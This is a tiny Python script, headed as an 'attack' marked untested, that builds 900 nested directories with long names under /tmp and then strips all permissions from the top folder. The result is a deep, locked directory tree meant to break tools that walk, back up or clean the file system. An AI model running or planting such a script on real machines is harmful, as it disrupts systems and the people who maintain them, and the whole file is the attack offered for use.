# attack: folders nested without end and closed
# verdict: untested
import os

os.chdir("/tmp")
for _ in range(900):
    os.mkdir("d" * 40)
    os.chdir("d" * 40)
os.chmod("/tmp/" + "d" * 40, 0)
